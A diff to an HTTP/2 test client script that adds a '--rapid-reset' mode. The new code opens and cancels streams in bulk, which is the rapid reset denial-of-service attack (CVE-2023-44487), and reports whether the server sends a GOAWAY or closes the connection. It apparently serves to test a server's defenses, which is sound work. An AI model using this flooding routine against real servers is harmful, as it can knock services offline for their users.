@@ -7,13 +7,15 @@ usage: mg-h2-client.py --port P [--host H] [--tls-ca FILE --sni NAME]
                        [--header 'name: value']... [--raw]
                        [--body N] [--no-end-stream] [--reset-after MS]
                        [--close-after MS]
-                       [--streams N] [--wait SEC]
+                       [--streams N] [--wait SEC] [--rapid-reset N]
 
 One request (or --streams N of them at once) on one connection, h2c with prior knowledge
 or TLS with ALPN h2.  --raw sends the headers exactly as given: no validation, no
 lower-casing.  --body N sends N bytes of body.  --reset-after MS sends RST_STREAM CANCEL
 MS milliseconds after the request; --close-after MS closes the connection then instead.  --wait SEC keeps reading that long after the last
-stream ended (to see a GOAWAY or a close).
+stream ended (to see a GOAWAY or a close).  --rapid-reset N opens and at once cancels up
+to N streams (HEADERS then RST_STREAM, 50 to a write) and prints "goaway CODE after K",
+"closed after K" or "no goaway after N".
 
 Prints one line per event, in order:
   trailer NAME: VALUE     a field of a response's trailer section
@@ -35,6 +37,33 @@ import h2.events
 import h2.exceptions
 
 
+def rapid_reset(sock, conn, headers, n):
+    """Open and at once cancel up to N streams, 50 to a write, as the "rapid reset" attack
+    (CVE-2023-44487) does; stop at a GOAWAY or a close."""
+    sock.settimeout(0.2)
+    for i in range(n):
+        sid = conn.get_next_available_stream_id()
+        conn.send_headers(sid, headers, end_stream=True)
+        conn.reset_stream(sid, error_code=8)  # CANCEL
+        if i % 50 != 49 and i != n - 1:
+            continue
+        try:
+            sock.sendall(conn.data_to_send())
+            data = sock.recv(65536)
+        except socket.timeout:
+            continue
+        except (BrokenPipeError, ConnectionResetError):
+            data = b""
+        if not data:
+            print("closed after %d" % (i + 1))
+            return
+        for ev in conn.receive_data(data):
+            if isinstance(ev, h2.events.ConnectionTerminated):
+                print("goaway %d after %d" % (ev.error_code, i + 1))
+                return
+    print("no goaway after %d" % n)
+
+
 def main():
     ap = argparse.ArgumentParser()
     ap.add_argument("--host", default="127.0.0.1")
@@ -52,6 +81,7 @@ def main():
     ap.add_argument("--close-after", type=int)
     ap.add_argument("--streams", type=int, default=1)
     ap.add_argument("--wait", type=float, default=0)
+    ap.add_argument("--rapid-reset", type=int, default=0)
     a = ap.parse_args()
 
     sock = socket.create_connection((a.host, a.port), timeout=10)
@@ -77,6 +107,9 @@ def main():
         name, _, value = h.partition(":")
         headers.append((name.strip(), value.strip()))
     end_stream = a.body == 0 and not a.no_end_stream
+    if a.rapid_reset:
+        rapid_reset(sock, conn, headers, a.rapid_reset)
+        return
     ids = []
     for _ in range(a.streams):
         sid = conn.get_next_available_stream_id()
